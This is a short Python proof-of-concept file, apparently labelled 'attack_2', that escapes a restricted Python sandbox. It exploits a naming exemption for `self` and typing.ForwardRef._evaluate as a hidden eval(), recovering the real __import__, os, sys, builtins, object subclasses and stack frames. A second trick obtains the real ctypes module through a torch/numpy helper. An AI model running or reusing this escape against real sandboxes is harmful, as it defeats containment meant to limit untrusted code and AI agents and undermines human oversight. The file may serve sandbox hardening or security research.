# attack_2: the `self._x` exemption (any object may be named `self`) + a string inside a
# subscript (only whole annotations are read as text) -> typing.ForwardRef._evaluate is eval()
# run from typing's frame, whose builtins are the REAL builtins. Lab: any (ddp shown).
import typing


def evaluate(text):
    self = typing.get_args(typing.List[text])[
        0
    ]  # a ForwardRef (the denied name) built for us
    return self._evaluate({}, {}, frozenset())  # eval(text, {}, {}) in typing's frame


# _type_check demands a callable result: __import__ is one
LEAK_import = evaluate("__import__")
LEAK_os = LEAK_import("os")
LEAK_sys = LEAK_import("sys")
LEAK_builtins = evaluate("(lambda: __builtins__)")()
LEAK_subclasses = evaluate("(lambda: ().__class__.__base__.__subclasses__())")()[:3]
LEAK_frame = evaluate("(lambda: __import__('sys')._getframe(1))")()
# same root cause (any object may be named `self`): numpy's ctypes helper keeps the ctypes module

import torch  # noqa: E402

self = torch.zeros(1).numpy().ctypes
LEAK_ctypes = self._ctypes  # the real ctypes module
